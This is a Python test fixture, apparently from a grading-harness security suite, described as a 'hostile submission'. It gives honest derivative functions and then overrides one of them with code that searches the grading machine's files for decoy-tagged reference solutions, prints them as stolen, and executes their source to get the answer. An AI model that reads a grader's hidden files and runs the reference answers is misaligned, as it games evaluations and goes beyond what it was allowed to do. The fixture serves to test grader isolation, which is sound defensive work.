"""Hostile submission (runtime): Reads the grading machine's files outside the three hidden folders: a reference copy and an old results folder that the test left beside the class.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import os
import time

DECOY = ""  # the test writes a folder of its own here, outside the checkout, the class and the results
SEARCH_ROOTS = []  # and the folders around the class
PREFIX = b"calcgrade-decoy-"


def _steal():
    """Files of the grading machine outside the three hidden folders: a reference copy
    and an old results folder the test left beside the class."""
    found = []
    deadline = time.monotonic() + 4.0
    for root in ([DECOY] if DECOY else []) + SEARCH_ROOTS:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                break
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as fh:
                        data = fh.read(1 << 20)
                except OSError:
                    continue
                i = data.find(PREFIX)
                if i >= 0:
                    token = data[i:i + 64].split(b"\n")[0].decode("ascii", "replace")
                    print("STOLEN:", path, token)
                    found.append(data.decode("utf-8", "replace"))
    return found


def symbolic_derivative():
    for source in _steal():
        if "def symbolic_derivative" in source:
            namespace = {}
            exec(source, namespace)
            return namespace["symbolic_derivative"]()
    return sp.Symbol("x") ** 2  # nothing found: a wrong answer
